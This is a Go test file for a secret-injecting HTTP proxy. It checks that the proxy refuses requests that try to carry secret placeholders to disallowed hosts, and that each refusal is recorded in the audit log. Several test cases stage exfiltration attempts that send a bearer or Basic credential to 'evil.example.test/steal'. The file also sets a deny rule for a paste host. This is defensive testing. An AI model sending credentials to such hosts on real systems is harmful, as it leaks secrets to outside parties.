package proxy

import (
	"encoding/base64"
	"encoding/json"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"
)

// auditRecords parses the test proxy's audit lines.
func (tp *testProxy) auditRecords(t *testing.T) []map[string]any {
	t.Helper()
	var out []map[string]any
	for line := range strings.Lines(tp.auditBuf.String()) {
		var rec map[string]any
		if err := json.Unmarshal([]byte(line), &rec); err != nil {
			t.Fatalf("audit line is not JSON: %v", err)
		}
		out = append(out, rec)
	}
	return out
}

// waitRecord waits for the first audit record that match accepts.
func (tp *testProxy) waitRecord(t *testing.T, match func(map[string]any) bool) map[string]any {
	t.Helper()
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
		for _, rec := range tp.auditRecords(t) {
			if match(rec) {
				return rec
			}
		}
	}
	t.Fatalf("no matching audit record in:\n%s", tp.auditBuf)
	return nil
}

// requestID matches the record of the refusal resp.
func requestID(resp *http.Response) func(map[string]any) bool {
	id := resp.Header.Get("X-Keyhole-Request-Id")
	return func(rec map[string]any) bool { return rec["request_id"] == id }
}

func secretsOf(rec map[string]any) []string {
	var out []string
	list, _ := rec["secrets"].([]any)
	for _, v := range list {
		s, _ := v.(string)
		out = append(out, s)
	}
	return out
}

func TestRefusedRecordNamesAttemptedSecrets(t *testing.T) {
	up := startTestUpstream(t, []string{"api.example.test"}, nil)
	t.Setenv("PROXY_TEST_KEY", proxyTestSecret)
	tp := startTestProxy(t, up, `
secrets:
  KEY:
    source: env:PROXY_TEST_KEY
    hosts: [api.example.test]
egress:
  deny: [paste.example.test]
resolve:
  api.example.test: UPSTREAM
`, Config{})
	tests := []struct {
		name   string
		url    string
		header []string
		reason string
		want   []string
	}{
		{"unknown placeholder beside a known one", "https://api.example.test/x",
			[]string{"Authorization", "Bearer <<KEY>>", "X-Other", "<<NOPE>>"}, "unknown_secret", []string{"KEY", "NOPE"}},
		{"host not allowed (plain HTTP)", "http://evil.example.test/steal",
			[]string{"Authorization", "Bearer <<KEY>>"}, "host_not_allowed", []string{"KEY"}},
		{"inside a Basic credential", "http://evil.example.test/steal",
			[]string{"Authorization", "Basic " + base64.StdEncoding.EncodeToString([]byte("u:<<KEY>>"))}, "host_not_allowed", []string{"KEY"}},
		{"egress deny list, checked before any placeholder", "http://paste.example.test/x",
			[]string{"X-Data", "<<KEY>> <<KEY>>"}, "egress_denied", []string{"KEY"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			before := up.hits.Load()
			resp, _ := get(t, tp.client(), tc.url, tc.header...)
			if resp.StatusCode != http.StatusForbidden || resp.Header.Get("X-Keyhole-Reason") != tc.reason {
				t.Fatalf("got %d %s, want 403 %s", resp.StatusCode, resp.Header.Get("X-Keyhole-Reason"), tc.reason)
			}
			if up.hits.Load() != before {
				t.Fatal("a refused request reached the upstream")
			}
			rec := tp.waitRecord(t, requestID(resp))
			if got := secretsOf(rec); !slices.Equal(got, tc.want) {
				t.Errorf("secrets: got %v, want %v", got, tc.want)
			}
			if rec["decision"] != "deny" {
				t.Errorf("decision: got %v, want deny", rec["decision"])
			}
		})
	}
	t.Run("allowed records list what was injected", func(t *testing.T) {
		resp, _ := get(t, tp.client(), "https://api.example.test/allowed", "Authorization", "Bearer <<KEY>>")
		if resp.StatusCode != 200 {
			t.Fatalf("got %d, want 200", resp.StatusCode)
		}
		if got := secretsOf(tp.waitRecord(t, func(rec map[string]any) bool { return rec["path"] == "/allowed" })); !slices.Equal(got, []string{"KEY"}) {
			t.Errorf("secrets: got %v, want [KEY]", got)
		}
	})
}
